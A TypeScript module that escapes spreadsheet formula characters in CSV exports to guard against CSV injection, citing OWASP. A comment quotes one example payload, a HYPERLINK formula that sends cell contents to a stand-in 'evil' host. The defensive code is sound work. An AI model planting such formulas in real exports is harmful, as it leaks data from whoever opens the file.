import { stringify } from "csv-stringify/sync";

/**
 * First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell
 * as a formula, or that it strips before doing so: OWASP "CSV Injection"
 * (https://owasp.org/www-community/attacks/CSV_Injection). Ids and error texts come from
 * items and handlers, so a cell like `=HYPERLINK("http://evil/?"&A1)` is item data.
 */
const FORMULA_STARTS = new Set(["=", "+", "-", "@", "\t", "\r"]);

/**
 * A cell a spreadsheet shows as text: a string starting with one of FORMULA_STARTS gets a
 * leading `'` (the OWASP advice; spreadsheets hide the quote). Numbers and other cells are
 * left alone, so `attempts` stays a number.
 */
export function formulaSafeCell(value: unknown): unknown {
  return typeof value === "string" && value.length > 0 && FORMULA_STARTS.has(value[0]!) ? `'${value}` : value;
}

/** CSV with a header row (csv-stringify quotes commas, quotes and newlines), every cell formula-safe. */
export function formulaSafeCsv(columns: string[], rows: unknown[][]): string {
  return stringify(
    rows.map((row) => row.map(formulaSafeCell)),
    { header: true, columns },
  );
}
